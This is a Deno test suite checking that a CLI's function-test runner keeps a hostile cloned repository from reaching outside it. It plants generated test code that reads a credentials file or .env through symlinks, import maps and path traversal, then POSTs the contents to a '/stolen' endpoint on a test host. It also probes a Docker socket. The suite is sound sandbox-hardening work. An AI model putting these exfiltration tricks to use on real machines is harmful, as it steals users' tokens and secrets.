/** Tests of a cloned repository's functions, which reach for what is outside of it. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { dirname } from "@std/path";
import { describe, it } from "@std/testing/bdd";
import { insforge } from "../support/executable.ts";
import { type HostileClone, TREASURE, withHostileClone } from "../support/hostile_clone.ts";

/** Reads a file by its path from the test. */
const READ = (path: string) =>
  `await Deno.readTextFile(new URL(${JSON.stringify(path)}, import.meta.url))`;

interface Attack {
  readonly title: string;
  /** Answers what the test imports or reads: an expression. */
  plant(clone: HostileClone): Promise<string>;
}

const FOLDER = "insforge/functions/hello";
const TESTING = ["functions", "test", "hello", "--allow-net"];
const TOKENS = ".insforge/credentials.json";

const ATTACKS: readonly Attack[] = [
  {
    title: "a link that is imported",
    async plant({ link }) {
      await link(`${FOLDER}/tokens.json`, TOKENS);
      return `(await import("./tokens.json", { with: { type: "json" } })).default`;
    },
  },
  {
    title: "a file that is imported by its path",
    async plant({ file, home }) {
      await file(
        "lib/steal.ts",
        `export { default } from "${home}/${TOKENS}" with { type: "json" };`,
      );
      return `(await import("../../../lib/steal.ts")).default`;
    },
  },
  {
    title: "a name of the import map, for a folder below the working directory",
    async plant({ file, home }) {
      const imports = { tokens: `file://${home}/${TOKENS}` };
      await file(`${FOLDER}/deno.json`, JSON.stringify({ imports }));
      await file("deno.json", JSON.stringify({ imports: { tokens: "./none.json" } }));
      return `(await import("tokens", { with: { type: "json" } })).default`;
    },
  },
  {
    title: "the link of the project",
    async plant({ file }) {
      await file(".insforge/own.json", JSON.stringify(TREASURE));
      return `(await import("../../../.insforge/own.json", { with: { type: "json" } })).default`;
    },
  },
  {
    title: "a file that is read through a link to a folder",
    async plant({ link }) {
      await link(`${FOLDER}/home`, ".");
      return READ(`home/${TOKENS}`);
    },
  },
  {
    title: "a file of the project that is read",
    async plant({ file }) {
      await file(".env", TREASURE);
      return READ("../../../.env");
    },
  },
  {
    title: "a folder of functions that is a link",
    async plant({ root, home, link }) {
      await Deno.rename(`${root}/insforge`, `${home}/work`);
      await link("insforge", "work");
      await Deno.copyFile(`${home}/${TOKENS}`, `${home}/work/functions/hello/tokens.json`);
      return READ("tokens.json");
    },
  },
];

/** The test reads what it can and sends it; the name of it stands in the title of the attack. */
const TEST = (url: string, expression: string) =>
  `Deno.test("sends", async () => {
  const body = JSON.stringify(${expression});
  await (await fetch("${url}/stolen", { method: "POST", body })).body?.cancel();
});`;

describe("the tests of a function of a cloned repository", () => {
  for (const { title, plant } of ATTACKS) {
    it(`${title} gives nothing away`, async () => {
      await withHostileClone(async (clone) => {
        const { root, home, host, file } = clone;
        await file(`${FOLDER}/index.ts`, "export default () => new Response();");
        const expression = await plant(clone);
        await file(`${FOLDER}/index.test.ts`, TEST(host.url, expression));
        const env = { HOME: home, PATH: `${dirname(Deno.execPath())}:${Deno.env.get("PATH")}` };
        const result = await insforge(TESTING, { cwd: root, env });
        assert(!clone.sent().includes(TREASURE), result.stdout + result.stderr);
        assertEquals(result.code, 1, result.stdout);
      });
    });
  }

  it("still import what lies in the project, and send where they want", async () => {
    await withHostileClone(async ({ file, root, home, host, sent }) => {
      await file(`${FOLDER}/index.ts`, "export default () => new Response();");
      await file("lib/greeting.json", '"good morning"');
      await file(`${FOLDER}/note.txt`, "good night");
      const expression = `[
        (await import("../../../lib/greeting.json", { with: { type: "json" } })).default,
        ${READ("note.txt")},
      ]`;
      await file(`${FOLDER}/index.test.ts`, TEST(host.url, expression));
      const env = { HOME: home, PATH: `${dirname(Deno.execPath())}:${Deno.env.get("PATH")}` };
      const { code, stderr } = await insforge(TESTING, { cwd: root, env });
      assertEquals(code, 0, stderr);
      assertStringIncludes(sent(), '["good morning","good night"]');
    });
  });

  it("reach no socket of the machine unless they may use the network", async () => {
    if (Deno.build.os === "windows") return;
    await withHostileClone(async ({ file, root, home }) => {
      const path = `${home}/docker.sock`;
      let calls = 0;
      await using _socket = Deno.serve({ path, onListen() {} }, () => new Response(`${++calls}`));
      await file(`${FOLDER}/index.ts`, "export default () => new Response();");
      await file(
        `${FOLDER}/index.test.ts`,
        `Deno.test("asks", async () => {
          const client = Deno.createHttpClient({ proxy: { url: "unix:${path}" } });
          await (await fetch("http://docker/", { client })).text();
        });`,
      );
      const env = { HOME: home, PATH: `${dirname(Deno.execPath())}:${Deno.env.get("PATH")}` };
      const { code } = await insforge(TESTING.slice(0, 3), { cwd: root, env });
      assertEquals([code, calls], [1, 0]);
    });
  });
});
